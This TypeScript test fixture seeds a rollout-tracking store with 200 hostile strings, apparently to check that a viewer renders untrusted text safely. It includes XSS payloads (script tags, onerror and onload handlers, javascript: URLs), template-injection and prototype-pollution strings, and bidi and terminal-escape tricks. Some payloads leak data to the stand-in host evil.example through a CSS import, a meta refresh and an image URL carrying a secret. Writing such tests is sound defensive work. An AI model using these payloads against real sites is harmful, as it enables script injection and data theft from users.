// 200 texts that try to become something else in a page, and a run that has them in every column of text.
import type { Store } from '../../streams/core/ports.ts';

export const hostileRun = 'hostile-texts';

const mark = 'globalThis.__hostile = 1';
const seeds: readonly string[] = [
  `<script>${mark}</script>`,
  `<img src=x onerror="${mark}">`,
  `<svg onload="${mark}"><circle r=4></svg>`,
  `"><script>${mark}</script>`,
  `'-(${mark})-'`,
  `javascript:${mark}`,
  `<a href="javascript:${mark}">link</a>`,
  `<iframe srcdoc="<script>parent.__hostile = 1</script>"></iframe>`,
  `<style>@import 'https://evil.example/a.css';</style>`,
  `![image](https://evil.example/a.png?secret=1)`,
  `<link rel=stylesheet href=https://evil.example/b.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<form action=https://evil.example><button>go</button></form>`,
  `<object data=https://evil.example></object>`,
  `{{constructor.constructor('${mark}')()}}`,
  '${' + mark + '}',
  `</textarea></pre></script><script>${mark}</script>`,
  '\u202eexe.txt\u202c \u200bhidden\ufeff',
  '\u001b[31mred\u001b[0m\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  `{"__proto__": {"onerror": "${mark}"}, "html": "<b>bold</b>"}`,
];
const wraps: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replace('GLOBALTHIS.__HOSTILE', 'globalThis.__hostile'),
  (text) => `plain ${text} plain`,
  (text) => `\n\n${text}\n`,
  (text) => `<!--${text}-->`,
  (text) => `<![CDATA[${text}]]>`,
  (text) => text.replaceAll('<', '&lt;'),
  (text) => `${'a'.repeat(300)}${text}`,
  (text) => `<div>${text}</div>`,
  (text) => `\u0000${text}\u2028`,
];

/** Each seed in each wrapping. */
export const hostileTexts: readonly string[] = wraps.flatMap((wrap) => seeds.map(wrap));

/** One trajectory for each ten texts; its turns have them in their text, tool, arguments, result, error, and worker. */
export async function seedHostileRun(store: Store): Promise<void> {
  const at = '2026-11-20 08:00:00.000000';
  const textAt = (index: number): string => hostileTexts[index % hostileTexts.length] ?? '';
  const place = (offset: number) => ({ _topic: 'turnstream.rollouts', _partition: 0, _offset: offset, _timestamp: at });
  const turns = hostileTexts.map((text, index) => ({
    ...{
      run_id: hostileRun,
      group_id: `${hostileRun}-g${Math.floor(index / 20)}`,
      trajectory_id: `${hostileRun}-g${Math.floor(index / 20)}.${Math.floor(index / 10) % 2}`,
    },
    ...{ attempt: 0, turn: index % 10, sequence: index, purpose: 'train', worker_id: textAt(index + 3), question_id: `${hostileRun}-q0` },
    ...{
      policy_version_min: 0,
      policy_version_max: 0,
      text,
      tool: textAt(index + 1),
      tool_status: 'error',
      tool_error_type: textAt(index + 2),
    },
    ...{
      tool_arguments: text,
      tool_result: text,
      tool_result_chars: text.length,
      finish_reason: text,
      occurred_at: at,
      tool_started_at: at,
      ...place(index),
    },
  }));
  const trajectories = Array.from({ length: 20 }, (_, index) => ({
    ...{
      run_id: hostileRun,
      group_id: `${hostileRun}-g${Math.floor(index / 2)}`,
      trajectory_id: `${hostileRun}-g${Math.floor(index / 2)}.${index % 2}`,
      attempt: 0,
    },
    ...{
      purpose: 'train',
      worker_id: textAt(index + 3),
      question_id: `${hostileRun}-q0`,
      question: textAt(index),
      answer: textAt(index + 20),
    },
    ...{ status: 'answered', error: textAt(index + 40), reward: index / 20, turns: 10, version_first: 0, version_last: index },
    ...{ started_at: at, finished_at: '2026-11-20 08:01:00.000000', occurred_at: at, ...place(1_000 + index) },
  }));
  const letters = hostileTexts.slice(0, 50).map((text, index) => ({
    ...{ original_topic: 'rollouts', original_partition: 9, original_offset: index, original_timestamp: at, has_value: true },
    ...{
      original_value_base64: Buffer.from(text).toString('base64'),
      original_value_bytes: text.length,
      step: text,
      reason: 'undecodable',
    },
    ...{
      error: text,
      run_id: hostileRun,
      occurred_at: at,
      _topic: 'turnstream.dead-letters',
      _partition: 9,
      _offset: index,
      _timestamp: at,
    },
  }));
  await store.insert('turns', turns, 'hostile-turns');
  await store.insert('trajectories', trajectories, 'hostile-trajectories');
  await store.insert('dead_letter_events', letters, 'hostile-letters');
}
